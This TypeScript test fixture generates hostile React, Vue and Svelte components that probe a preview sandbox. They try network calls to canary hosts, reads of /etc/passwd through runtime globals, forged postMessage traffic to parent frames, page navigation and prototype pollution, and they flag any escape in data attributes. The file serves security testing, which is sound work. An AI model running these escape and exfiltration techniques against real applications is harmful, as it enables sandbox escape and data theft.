import type { Canaries } from './canaries.ts';
import type { HostilePage } from './hostilePage.ts';

/**
 * Components that try to reach out where they are rendered and where they are mounted. Like hostile pages they say in
 * `data-escaped` what they got at, and one that was mounted says that in `data-ran` of the root.
 */
export function hostileComponents({ http, socket, stun }: Canaries): readonly HostilePage[] {
  const at = (name: string) => `${http}component-${name}`;
  const attempt = 'const attempt = (work) => { try { return work(); } catch { return undefined; } };';
  const ran = "document.documentElement.dataset.ran = 'yes';";
  const markup = (name: string) =>
    `<img src=${at(name)} onerror=1><svg onload=1><image href=${at(`${name}-svg`)} /></svg><link rel=preconnect href=${http}><link rel=stylesheet href=${at(`${name}.css`)}>`;
  const component = (file: string, text: string): HostilePage => ({
    name: file.replace('.', '-'),
    file,
    text,
    reaches: false,
    mounts: true,
    leaves: file.startsWith('leaving'),
  });
  const doors = `
${attempt}
let found = undefined;
const reach = (when) => {
  attempt(() => fetch('${at('fetch')}' + when).catch(() => 0));
  attempt(() => new WebSocket('${socket}component' + when));
  attempt(() => new EventSource('${at('events')}' + when));
  attempt(() => { const r = new XMLHttpRequest(); r.open('GET', '${at('xhr')}' + when); r.send(); });
  attempt(() => navigator.sendBeacon('${at('beacon')}' + when, 'x'));
  attempt(() => import('${at('module')}.js').catch(() => 0));
  attempt(() => { new Image().src = '${at('image')}' + when; });
  attempt(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); });
  const outer = attempt(() => reach.constructor('return this')()) ?? globalThis;
  if (typeof attempt(() => outer.process.versions.node) === 'string') found = 'the process';
  for (const name of ['require', 'module', 'std', 'os', 'Deno', 'Bun'])
    if (typeof attempt(() => outer[name].readFileSync('/etc/passwd', 'utf8')) === 'string') found = name;
  for (const name of ['fs', 'node:fs'])
    if (typeof attempt(() => require(name).readFileSync('/etc/passwd', 'utf8')) === 'string') found = name;
  if (typeof attempt(() => outer.acquireVsCodeApi) === 'function') found = 'the API';
};`;
  const forged = `for (const message of [{ type: 'scripts-asked', payload: { side: 'right' } }, { type: 'view-replaced', payload: { view: { files: ['owned.tsx'] } } }, { type: 'panel-ready', payload: {} }, { type: 'props-written', payload: { side: 'left', json: '{"owned":1}' } }, { type: 'checker-told', payload: { script: 'owned' } }, { type: 'picture-taken', payload: { side: 'left', png: 'owned' } }, { channel: 'onmessage', data: { type: 'scripts-asked', payload: { side: 'right' } } }, { channel: 'did-click-link', data: { uri: '${at('forged-link')}' } }]) for (const view of [parent, parent.parent, top]) view.postMessage(message, '*');
  for (const view of [parent, parent.parent, top]) { attempt(() => { view.document.body.textContent = 'owned'; document.documentElement.dataset.escaped = 'document'; }); attempt(() => { view.eval('1'); document.documentElement.dataset.escaped = 'eval'; }); }
  for (let i = 0; i < parent.length; i += 1) attempt(() => parent[i].postMessage({ type: 'check', payload: { isComponent: true, script: "new Image().src='${at('forged-check')}'" } }, '*'));`;
  return [
    component(
      'doors.tsx',
      `import { useEffect } from 'react';
${doors}
reach('-module');
export default function Doors() {
  reach('-render');
  useEffect(() => { reach('-effect'); ${ran} if (found) document.documentElement.dataset.escaped = found; }, []);
  return (
    <main data-escaped={found}>
      <h1>Doors</h1>
      <img src="${at('jsx')}" alt="" /><iframe src="${at('jsx-frame')}" title="x" />
      <link rel="stylesheet" href="${at('sheet.css')}" precedence="default" />
      <script async src="${at('script.js')}" />
      <div style={{ backgroundImage: 'url(${at('style')})' }} dangerouslySetInnerHTML={{ __html: '${markup('inner')}' }} />
    </main>
  );
}
`,
    ),
    component(
      'leaving.tsx',
      `import { useEffect } from 'react';
${attempt}
const leave = (when) => {
  attempt(() => { location.href = '${at('self')}' + when; });
  attempt(() => location.assign('${at('assign')}' + when));
  attempt(() => window.open('${at('open')}' + when));
  attempt(() => { const f = document.createElement('form'); f.action = '${at('form')}' + when; document.body.append(f); f.submit(); });
};
leave('-module');
export default function Leaving() {
  leave('-render');
  useEffect(() => { ${ran} leave('-effect'); }, []);
  return <h1>Leaving<meta httpEquiv="refresh" content="0;url=${at('refresh')}" /></h1>;
}
`,
    ),
    // What is told of a rendering is changed on its way, and so is whatever the code around it relies on.
    component(
      'pollution.vue',
      `<script setup>
import { onMounted } from 'vue';
${attempt}
Object.defineProperty(Object.prototype, 'toJSON', {
  configurable: true,
  get() {
    if (typeof this?.html !== 'string') return undefined;
    return () => ({ html: '<h1>Pollution</h1>${markup('told')}<script>document.documentElement.dataset.ran = 1<' + '/script>', head: '<base href=${http}><link rel=stylesheet href=${at('told.css')}><meta http-equiv=refresh content=0;url=${at('told-refresh')}>', missing: [{ toString: 1 }.a, '<img src=${at('missing')}>'], error: null });
  },
});
Object.defineProperty(Object.prototype, 'polluted', { value: 'yes', configurable: true, enumerable: false });
const html = '${markup('directive')}';
onMounted(() => {
  ${ran}
  delete Object.prototype.toJSON;
  for (const name of ['type', 'payload', 'source', 'isComponent']) Object.defineProperty(Object.prototype, name, { value: 'scripts-asked', configurable: true, writable: true });
  Array.prototype.slice = Array.prototype.map = () => ['${http}'];
  JSON.stringify = () => '{"owned":1}';
  Element.prototype.setAttribute = Node.prototype.appendChild = () => undefined;
  window.fetch?.('${at('mounted')}').catch(() => 0);
  attempt(() => new WebSocket('${socket}component-mounted'));
});
</script>
<template><h1>Pollution</h1><div v-html="html"></div><component :is="'iframe'" src="${at('is')}" /></template>
<style scoped>
@import "${at('scoped.css')}";
h1 { background: url(${at('scoped')}) }
</style>
`,
    ),
    component(
      'forging.svelte',
      `<script>
  import { onMount } from 'svelte';
  ${attempt}
  const html = '${markup('inserted')}';
  attempt(() => fetch('${at('instance')}').catch(() => 0));
  onMount(() => {
    ${ran}
  ${forged}
  });
</script>
<svelte:head>
  <base href="${http}" />
  <link rel="dns-prefetch" href="${http}" /><link rel="stylesheet" href="${at('head.css')}" />
</svelte:head>
<h1>Forging</h1>
<img src="${at('svelte')}" alt="" onerror={() => fetch('${at('error')}')} />
<iframe src="${at('frame')}" title="x"></iframe>
{@html html}
`,
    ),
  ];
}
